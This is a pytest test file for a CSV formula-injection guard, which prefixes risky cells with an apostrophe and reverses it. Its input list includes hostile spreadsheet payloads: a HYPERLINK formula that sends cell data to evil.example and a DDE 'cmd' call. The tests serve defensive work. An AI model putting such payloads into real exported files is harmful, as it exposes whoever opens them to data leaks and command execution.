"""Issue 17 row 16: CSV cells a spreadsheet would run as formulas are neutralised, reversibly."""

from __future__ import annotations

import csv
import io
import random

import pytest

from dossier.csvsafe import needs_neutralising, neutralise_csv_cell, restore_csv_cell


@pytest.mark.parametrize("cell", [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+44 20 7946 0000",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "- a bulleted line from the text", "'quoted already",
])
def test_formula_like_cells_get_an_apostrophe(cell):
    out = neutralise_csv_cell(cell)
    assert out == "'" + cell
    assert restore_csv_cell(out) == cell


@pytest.mark.parametrize("cell", ["", "Home Office", "-3", "+4.5", "-1e-3", ".5", "3 = three", " =x", "’quote", "£3m"])
def test_ordinary_cells_and_plain_numbers_are_unchanged(cell):
    assert neutralise_csv_cell(cell) == cell
    assert restore_csv_cell(cell) == cell


def test_non_strings_pass_through():
    for value in (None, 3, -2.5, True):
        assert neutralise_csv_cell(value) is value and restore_csv_cell(value) is value


def test_round_trip_on_random_strings_through_a_csv_file():
    rng = random.Random(17)
    alphabet = "=+-@'\t\r\n ab1.,\"é"
    cells = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(20_000)]
    buf = io.StringIO()
    csv.writer(buf).writerows([[neutralise_csv_cell(c)] for c in cells])
    read = [restore_csv_cell(row[0]) for row in csv.reader(io.StringIO(buf.getvalue()))]
    assert read == cells
    written = [neutralise_csv_cell(c) for c in cells]
    # what a spreadsheet sees first is an apostrophe, or not a formula character, or a plain number
    assert all(not w or w[0] not in "=+-@\t\r" or not needs_neutralising(w) for w in written)
